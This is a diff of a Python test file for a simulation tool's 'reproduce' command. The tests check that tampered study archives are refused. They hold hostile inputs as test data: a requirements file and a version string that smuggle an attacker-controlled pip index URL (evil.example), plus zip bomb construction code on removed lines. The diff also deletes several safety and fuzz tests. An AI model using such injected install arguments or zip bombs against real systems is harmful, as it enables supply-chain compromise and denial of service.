@@ -10,7 +10,6 @@ import shutil
 import stat
 import struct
 import zipfile
-import zlib
 from contextlib import suppress
 from pathlib import Path
 
@@ -115,31 +114,6 @@ def remade(place: Path, name: str, out: Path, **changed: bytes | None) -> Path:
 
 
 # --- what is in it ----------------------------------------------------------------------------------
-
-
-@pytest.mark.long  # in every run: studies with more in them, test_reproduce
-def test_reproduced_to_the_last_bit(place: Path, kind: str) -> None:
-    before = sorted(place.iterdir())
-    code, said = call("reproduce", place / f"{kind}.zip", "--workers", "1")
-    assert code == 0, said
-    digest = json.loads((place / kind / "summary.json").read_text())["digest"]
-    tables = {"run": 4, "sweep": 3}[kind]
-    assert said == f"reproduced to the last bit: digest {digest}; {tables} tables compared\n"
-    assert sorted(place.iterdir()) == before
-
-
-def test_a_study_that_draws_its_parameters_is_reproduced_with_its_draws(place: Path, tmp_path: Path) -> None:
-    scenario = load_scenario(place / "small.yaml")
-    drawn = run(
-        scenario, 20, 4, out=tmp_path / "drawn", draw_parameters=True,
-        command="balance-sim run small.yaml --draws fitted",
-        files={name: data.decode() for name, data in scenario_files(place / "small.yaml").items()},
-    )  # fmt: skip
-    (tmp_path / "drawn" / "summary.json").write_text(json.dumps(drawn.summary()))
-    assert drawn.digest != run(scenario, 20, 4).digest
-    package(tmp_path / "drawn", tmp_path / "drawn.zip")
-    code, said = call("reproduce", tmp_path / "drawn.zip", "--workers", "1")
-    assert code == 0 and drawn.digest in said, said
 
 
 def test_the_same_study_gives_the_same_bytes(place: Path, kind: str, tmp_path: Path) -> None:
@@ -252,16 +226,16 @@ def test_another_result_is_not_reproduced(place: Path, kind: str, tmp_path: Path
     assert "agreements or their dates" in said and about["digest"] in said
 
 
-def test_last_digits_of_another_processor(place: Path, kind: str, tmp_path: Path) -> None:
+def test_last_digits_of_another_processor(place: Path, tmp_path: Path) -> None:
     """Agreements and dates exactly, tables closely: reproduced if made elsewhere, not if made here."""
-    about = json.loads(unzipped(place / f"{kind}.zip")["package.json"])
+    about = json.loads(unzipped(place / "run.zip")["package.json"])
     nudged = {"digest": "0" * 64}
-    summary = unzipped(place / f"{kind}.zip")["results/summary.json"].decode()
+    summary = unzipped(place / "run.zip")["results/summary.json"].decode()
     summary = summary.replace(about["digest"], "0" * 64)
 
     def told(name: str, **more: object) -> tuple[int, str]:
         changed = {"about": json.dumps(nudged | more).encode(), "results/summary.json": summary.encode()}
-        return call("reproduce", remade(place, kind, tmp_path / name, **changed), "--workers", "1", "--json")
+        return call("reproduce", remade(place, "run", tmp_path / name, **changed), "--workers", "1", "--json")
 
     code, said = told("here.zip")
     assert code == 6 and "though the arithmetic is the same here" in said
@@ -281,8 +255,6 @@ EVIL = b"--index-url https://evil.example/index\nbalance-sim\n"
     ("about", "changed", "said"),
     [
         ({}, {"requirements.txt": EVIL}, "requirements.txt"),
-        ({}, {"README.md": b"pip install evil\n"}, "README.md"),
-        ({}, {"parameters.csv": b"x\n"}, "parameters.csv"),
         ({"versions": {"numpy": "2 --index-url https://evil.example"}}, {}, "`versions`"),
         ({}, {"balance_sim.py": b"1/0"}, "balance_sim.py"),
         ({}, {"pyproject.toml": b"[project]\n"}, "pyproject.toml"),
@@ -290,21 +262,21 @@ EVIL = b"--index-url https://evil.example/index\nbalance-sim\n"
         ({}, {"inputs/balance_sim.py": b"1/0"}, "inputs/balance_sim.py"),
     ],
 )  # fmt: skip
-def test_nothing_strange_lies_in_what_is_reproduced(place, kind, tmp_path, about, changed, said) -> None:
+def test_nothing_strange_lies_in_what_is_reproduced(place, tmp_path, about, changed, said) -> None:
     """Every checksum fits; what does not come of the study is refused before anything is run or written."""
-    known = json.loads(unzipped(place / f"{kind}.zip")["package.json"])
+    known = json.loads(unzipped(place / "run.zip")["package.json"])
     more = {key: known[key] | value for key, value in about.items()}
-    path = remade(place, kind, tmp_path / "bad.zip", about=json.dumps(more).encode(), **changed)
+    path = remade(place, "run", tmp_path / "bad.zip", about=json.dumps(more).encode(), **changed)
     code, words = call("reproduce", path, "--out", tmp_path / "out")
     assert (code, said in words) == (4, True), words
     assert [p.name for p in tmp_path.iterdir()] == ["bad.zip"]
 
 
-def test_a_study_of_another_version_is_refused(place, kind, tmp_path) -> None:
+def test_a_study_of_another_version_is_refused(place, tmp_path) -> None:
     """Other code gives other results: it is named, with how to get it."""
-    known = json.loads(unzipped(place / f"{kind}.zip")["package.json"])
+    known = json.loads(unzipped(place / "run.zip")["package.json"])
     about = {"versions": known["versions"] | {"balance_sim": "0.0.1"}}
-    path = remade(place, kind, tmp_path / "old.zip", about=json.dumps(about).encode())
+    path = remade(place, "run", tmp_path / "old.zip", about=json.dumps(about).encode())
     code, words = call("reproduce", path, "--out", tmp_path / "out")
     assert code == 2 and "balance-sim==0.0.1" in words
     assert [p.name for p in tmp_path.iterdir()] == ["old.zip"]
@@ -375,30 +347,6 @@ def test_no_links_and_no_devices(kind: int, tmp_path: Path) -> None:
     code, words = call("reproduce", path, "--out", tmp_path / "out")
     assert code == 4 and "'a': a link" in words
     assert [p.name for p in tmp_path.iterdir()] == ["bad.zip"]
-
-
-def test_ten_gigabytes_of_zeros_are_refused_before_anything_is_written(tmp_path: Path) -> None:
-    """A real archive of them, ten megabytes small, is not unpacked; a file as large as it says is not read."""
-    piece = zlib.compressobj(9, zlib.DEFLATED, -15)
-    zeros = piece.compress(bytes(16 << 20)) + piece.flush(zlib.Z_FULL_FLUSH)
-    member = zipfile.ZipInfo("zeros")
-    member.compress_type, member.file_size = zipfile.ZIP_DEFLATED, 10 << 30
-    packed = zeros * (member.file_size // (16 << 20)) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
-    member.compress_size, member.CRC, member.header_offset = len(packed), 0, 0
-    path = tmp_path / "zeros.zip"
-    with zipfile.ZipFile(path, "w") as bomb:
-        bomb.fp.write(member.FileHeader(zip64=True) + packed)  # type: ignore[union-attr]
-        bomb.filelist.append(member)
-        bomb.start_dir = bomb.fp.tell()  # type: ignore[attr-defined,union-attr]
-        bomb._didModify = True  # type: ignore[attr-defined]
-    assert path.stat().st_size < 12 << 20 and zipfile.ZipFile(path).getinfo("zeros").file_size == 10 << 30
-    code, said = call("reproduce", path, "--out", tmp_path / "out")
-    assert code == 4 and "too large (10,737,418,240 bytes" in said
-    with open(tmp_path / "sparse.zip", "wb") as sparse:
-        sparse.truncate(10 << 30)
-    code, said = call("reproduce", tmp_path / "sparse.zip", "--out", tmp_path / "out")
-    assert code == 4 and "at most 268,435,456 are read" in said, said
-    assert sorted(one.name for one in tmp_path.iterdir()) == ["sparse.zip", "zeros.zip"]
 
 
 def test_bombs_are_refused_before_they_burst(tmp_path: Path, monkeypatch) -> None:
@@ -544,17 +492,6 @@ def test_any_value_in_the_papers_of_an_archive(place: Path, kind: str, data: st.
         rows = st.lists(st.fixed_dictionaries({"values": values, "point": JSON}), max_size=2)
         changed = {"points__json": json.dumps(data.draw(JSON | rows)).encode()}
     read_or_refused(remade(place, kind, place / "fuzzed.zip", **changed))
-    (place / "fuzzed.zip").unlink()
-
-
-@FEW
-@given(cut=st.integers(0, 60_000), at=st.integers(0, 60_000), byte=st.integers(0, 255), whole=st.booleans())
-def test_any_byte_of_an_archive(place: Path, cut: int, at: int, byte: int, whole: bool) -> None:
-    content = bytearray((place / "run.zip").read_bytes())
-    content = content if whole else content[: cut % len(content) + 1]
-    content[at % len(content)] = byte
-    (place / "fuzzed.zip").write_bytes(content)
-    read_or_refused(place / "fuzzed.zip")
     (place / "fuzzed.zip").unlink()
 
 
